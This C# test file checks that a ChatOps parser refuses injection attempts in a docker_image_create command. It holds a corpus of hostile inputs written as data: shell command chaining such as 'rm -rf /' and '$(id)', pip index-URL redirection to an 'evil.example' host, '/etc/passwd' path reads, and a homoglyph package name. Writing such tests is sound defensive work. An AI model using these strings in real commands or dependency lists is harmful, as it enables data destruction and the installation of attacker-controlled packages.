using ChatOps.Parsers.Tests.Support;

namespace ChatOps.Parsers.Tests;

/// <summary>
/// Text that could reach a shell, a Dockerfile or pip if it got through: every piece is refused by the shape rule of
/// the argument it is put in, with an error that names the piece and the rule.
/// </summary>
public class InjectionCorpusTests
{
    // Each entry is given quoted, so the whole piece reaches the rule as one value (unquoted, spaces would split it).
    public static TheoryData<string> Corpus => new()
    {
        "requests\nos",
        "requests; rm -rf /",
        "requests;ls",
        "requests && curl evil",
        "requests&&id",
        "$(id)",
        "x$(id)",
        "`id`",
        "x`id`",
        "requests\"",
        "x'y",
        "--index-url=http://evil.example/simple",
        "--extra-index-url http://evil",
        "-r /etc/passwd",
        "-e .",
        "git+https://github.com/evil/pkg",
        "https://evil.example/pkg.whl",
        "../../etc/passwd",
        "x/../y",
        "r\u0435quests",
        "requests @ file:///tmp/x",
        "x|sh",
        "x>/tmp/out",
        "x y",
        "\\\\server\\share",
    };

    const string RequirementRule = "; write a library name with an optional version, e.g. requests or requests>=2.31,<3";
    const string PackageRule = "; write a package name with an optional =version, e.g. wget or wget=1.21.3-1";
    const string NameRule = "an image name is lower-case letters, digits, '.', '_' and '-', starting with a letter or digit";
    const string BaseRule = "; write org/name or org/name:tag, e.g. demisto/python3-deb:3.11.2.1";

    [Theory]
    [MemberData(nameof(Corpus))]
    public void A_dependency_is_refused_naming_it_and_the_rule(string piece)
    {
        var error = Parsing.Error($"/docker_image_create name=x dependencies=\"{Escape(piece)}\"");

        Assert.StartsWith($"dependency {Shown(piece)} is not a valid Python requirement: ", error.Message);
        Assert.EndsWith(RequirementRule, error.Message);
    }

    [Theory]
    [MemberData(nameof(Corpus))]
    public void A_package_is_refused_naming_it_and_the_rule(string piece)
    {
        var error = Parsing.Error($"/docker_image_create name=x packages=\"{Escape(piece)}\"");

        Assert.StartsWith($"package {Shown(piece)} is not a valid OS package: ", error.Message);
        Assert.EndsWith(PackageRule, error.Message);
    }

    [Theory]
    [MemberData(nameof(Corpus))]
    public void A_name_is_refused_naming_it_and_the_rule(string piece)
    {
        var error = Parsing.Error($"/docker_image_create name=\"{Escape(piece)}\"");

        Assert.StartsWith($"image name {Shown(piece)} is not valid: ", error.Message);
        Assert.EndsWith(NameRule, error.Message);
    }

    [Theory]
    [MemberData(nameof(Corpus))]
    public void A_base_image_is_refused_naming_it_and_the_rule(string piece)
    {
        var error = Parsing.Error($"/docker_image_create name=x base=\"{Escape(piece)}\"");

        Assert.StartsWith($"base image {Shown(piece)} is not valid: ", error.Message);
        Assert.EndsWith(BaseRule, error.Message);
    }

    [Theory]
    [InlineData("/docker_image_create name=x dependencies=requests;ls", 50, "environment markers after \";\" are not allowed")]
    [InlineData("/docker_image_create name=x dependencies=--index-url=http://evil", 42, "pip options are not allowed")]
    [InlineData("/docker_image_create name=x dependencies=git+https://github.com/x/y", 42, "URLs are not allowed")]
    [InlineData("/docker_image_create name=x dependencies=../x", 44, "paths are not allowed")]
    [InlineData("/docker_image_create name=x dependencies=a@b", 43, "direct references with \"@\" are not allowed")]
    [InlineData("/docker_image_create name=x dependencies=mechanize,r\u0435quests", 53, "the non-ASCII character \"\u0435\" (U+0435) is not allowed")]
    [InlineData("/docker_image_create name=x dependencies=$(id)", 42, "\"$\" is not allowed")]
    public void Unquoted_injections_point_at_the_offending_character(string line, int column, string what)
    {
        var error = Parsing.Error(line);

        Assert.Contains(": " + what + ";", error.Message);
        Assert.Equal(column, error.Column);
    }

    [Fact]
    public void A_raw_newline_is_refused_before_it_reaches_any_argument()
    {
        var error = Parsing.Error("/docker_image_create name=x dependencies=requests\nos");

        Assert.Equal("control character U+000A (line feed) is not allowed; a command is one line of text", error.Message);
        Assert.Equal(50, error.Column);
    }

    [Fact]
    public void A_look_alike_letter_in_a_name_is_called_out()
    {
        Assert.Equal(
            "image name \"r\u0435quests\" is not valid: the non-ASCII character \"\u0435\" (U+0435) is not allowed; " + NameRule,
            Parsing.Error("/docker_image_create name=r\u0435quests").Message);
    }

    static string Escape(string piece) => piece.Replace("\\", "\\\\").Replace("\"", "\\\"").Replace("\n", "\\n");

    static string Shown(string piece) => "\"" + piece.Replace("\n", "\\n") + "\"";
}
